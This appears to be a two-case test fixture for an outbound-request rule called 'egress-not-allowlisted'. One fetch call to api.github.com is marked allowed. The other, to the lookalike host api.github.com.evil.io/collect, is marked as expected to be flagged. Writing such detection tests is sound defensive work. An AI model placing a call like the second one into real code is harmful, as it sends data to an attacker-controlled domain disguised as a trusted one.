// ok: egress-not-allowlisted
await fetch('https://api.github.com/repos/acme/app');

// expect: egress-not-allowlisted
await fetch('https://api.github.com.evil.io/collect');
